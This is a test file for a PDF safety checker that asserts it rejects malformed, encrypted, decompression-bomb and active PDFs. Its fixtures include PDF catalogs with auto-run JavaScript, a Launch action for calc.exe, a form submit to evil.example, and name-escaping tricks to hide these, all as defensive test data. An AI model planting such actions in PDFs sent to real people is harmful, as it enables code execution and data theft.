import { describe, expect, it } from 'vitest';
import { objectStream, pdfDocument } from '../../../infra/test-support/documents.js';
import { PDF_TEXTS, pdfProblem } from '../../src/files/pdf-check.js';

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';

describe('a PDF judged beyond its first bytes', () => {
  it('accepts a plain document, with its dictionaries in a compressed object stream too', () => {
    expect(pdfProblem(pdfDocument())).toBeNull();
    expect(pdfProblem(pdfDocument([CATALOG, objectStream([PAGES], 3)]))).toBeNull();
  });

  it('refuses a file that only starts and ends like a PDF: no trailer, a startxref pointing nowhere, no objects, no catalog', () => {
    const good = pdfDocument().toString('latin1');
    const cases = {
      'magic and %%EOF only': '%PDF-1.4\nhello\n%%EOF\n',
      'no startxref': good.replace(/startxref\n\d+\n/, ''),
      'startxref past the end': good.replace(/startxref\n\d+/, 'startxref\n999999'),
      'startxref at no cross-reference': good.replace(/startxref\n\d+/, 'startxref\n3'),
      'no catalog named': good.replace('/Root 1 0 R', '/Info 1 0 R'),
      'an unknown version': good.replace('%PDF-1.7', '%PDF-9.1'),
      'an html page': `%PDF-1.4\n<script>alert(1)</script>\nstartxref\n0\n%%EOF\n`,
    };
    for (const [name, text] of Object.entries(cases))
      expect(pdfProblem(Buffer.from(text, 'latin1')), name).toBe(PDF_TEXTS.malformed);
  });

  it('refuses what acts when opened: scripts, launch and submit actions, attachments, media, XFA, however the name is written', () => {
    const actions = [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>',
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>',
      '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>',
      '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 3 0 R >> >>',
      '<< /Type /Catalog /Pages 2 0 R /AA << /O << /S /SubmitForm /F (https://evil.example) >> >> >>',
    ];
    for (const catalog of actions) expect(pdfProblem(pdfDocument([catalog, PAGES])), catalog).toBe(PDF_TEXTS.active);
    // Hidden in a compressed object stream, whose name is escaped too.
    const hidden = pdfDocument([CATALOG, objectStream([PAGES, '<< /S /JavaScript /JS (app.alert(1)) >>'], 3)]);
    expect(pdfProblem(hidden)).toBe(PDF_TEXTS.active);
    const escaped = pdfDocument([
      CATALOG,
      objectStream(['<< /S /JavaScript /JS (x) >>'], 3).replace('/ObjStm', '/Obj#53tm'),
    ]);
    expect(pdfProblem(escaped)).toBe(PDF_TEXTS.active);
  });

  it('refuses an encrypted file, an object stream it cannot read, and one that would inflate past the budget', () => {
    expect(pdfProblem(pdfDocument(undefined, ' /Encrypt 5 0 R'))).toBe(PDF_TEXTS.encrypted);
    const unreadable = objectStream([PAGES], 3).replace('/FlateDecode', '/LZWDecode');
    expect(pdfProblem(pdfDocument([CATALOG, unreadable]))).toBe(PDF_TEXTS.malformed);
    const corrupt = '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 8 >>\nstream\nnot zlib\nendstream';
    expect(pdfProblem(pdfDocument([CATALOG, corrupt]))).toBe(PDF_TEXTS.malformed);
    const bomb = objectStream([`<< /Pad (${'A'.repeat(70 * 1024 * 1024)}) >>`], 3);
    expect(pdfProblem(pdfDocument([CATALOG, bomb]))).toBe(PDF_TEXTS.malformed);
  });

  it('reads a hostile file of digits, spaces and brackets in time proportional to its size', () => {
    // Printed, not asserted (latency belongs to benchmarks): quadratic searches would take minutes here.
    for (const filler of [
      '1 '.repeat(5_000_000),
      '<<'.repeat(5_000_000),
      '1 0 obj /Type /ObjStm '.repeat(450_000),
      '/Root 1 '.repeat(1_200_000),
    ]) {
      // A trailer that holds, so every later search runs over the filler.
      const head = `%PDF-1.4\n${filler}\n`;
      const file = Buffer.from(`${head}xref\n0 1\ntrailer << >>\nstartxref\n${head.length}\n%%EOF\n`, 'latin1');
      const t = performance.now();
      expect(pdfProblem(file)).not.toBeNull();
      console.log(
        `pdf check of ${(file.length / 1e6).toFixed(1)} MB of "${filler.slice(0, 6)}...": ${(performance.now() - t).toFixed(0)} ms`,
      );
    }
  });
});
